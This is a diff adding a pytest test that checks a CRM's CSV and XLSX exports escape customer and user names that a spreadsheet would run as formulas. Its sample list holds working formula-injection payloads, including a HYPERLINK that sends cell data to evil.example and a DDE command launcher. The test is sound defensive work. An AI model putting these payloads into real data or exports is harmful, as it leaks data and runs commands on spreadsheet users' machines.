@@ -11,7 +11,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from saas.models import AuditEntry
+from saas.models import AuditEntry, User
 from saas.settings import Settings
 from saas.tenancy.rls import system_transaction
 from saas.tenancy.roles import Role
@@ -39,7 +39,7 @@ async def floor(api: Api, settings: Settings) -> dict:  # type: ignore[type-arg]
     await make_lead(bob, store, name="Zhao Min", phone="13700137000")
     carl = await make_user("carl@east.test", group=group, role=Role.CONSULTANT, store=other_store)
     await make_lead(carl, other_store, name="Sun Li", phone="13600136000")
-    return {"store": store, "other_store": other_store}
+    return {"group": group, "store": store, "other_store": other_store}
 
 
 async def _export(api: Api, token: str, field: str, **input: object) -> dict:  # type: ignore[type-arg]
@@ -152,3 +152,51 @@ async def test_who_may_export(api: Api, floor: dict) -> None:  # type: ignore[ty
     admin = await api.login("admin@east.test")  # IT admin: users and settings, no CRM data
     errors = await api.errors(EXPORT.format(field="exportCustomers"), {"input": {}}, admin)
     assert "customer:export" in errors[0]["message"]
+
+
+# Names a customer or colleague could give that a spreadsheet would run as a formula.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for invoice")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1)",
+    "-2+3",
+    "＝1+1",  # full-width, as typed with a Chinese input method
+]
+
+
+def _starts_a_formula(text: str) -> bool:
+    return text[:1] in "=+-@＝＋－＠\t\r" and not text.lstrip("+-").isdigit()
+
+
+async def test_exported_text_never_becomes_a_formula(api: Api, floor: dict) -> None:  # type: ignore[type-arg]
+    """Customer names (and a colleague's name) that would be formulas come out
+    of CSV and XLSX exports as text with a leading ', never as formula cells."""
+    cara = await make_user(
+        "cara@east.test", group=floor["group"], role=Role.CONSULTANT, store=floor["store"]
+    )
+    async with system_transaction():
+        await User.filter(id=cara.id).update(name="@owner")
+    for n, name in enumerate(FORMULAS):
+        await make_lead(cara, floor["store"], name=name, phone=f"1350013500{n}")
+    token = await api.login("cara@east.test")
+    for field in ("exportCustomers", "exportLeads"):
+        done = await _export(api, token, field)
+        rows = await _csv(api, token, done["csvUrl"])
+        assert sorted(r["name"] for r in rows) == sorted("'" + f for f in FORMULAS), field
+        assert {r["owner"] for r in rows} == {"'@owner"}
+        assert [v for r in rows for v in r.values() if v and _starts_a_formula(v)] == [], field
+        assert all(r["phone"].startswith("+86135") for r in rows)  # numbers stay as they were
+
+        response = await api.client.get(
+            done["xlsxUrl"], headers={"authorization": f"Bearer {token}"}
+        )
+        sheet = load_workbook(io.BytesIO(response.content))["Report"]
+        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [], field
+        header = [c.value for c in sheet[1]]
+        for column in ("name", "owner"):
+            values = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
+            assert all(c.data_type == "s" for c in values)
+        names = sorted(row[header.index("name")].value for row in sheet.iter_rows(min_row=2))
+        assert names == sorted("'" + f for f in FORMULAS), field
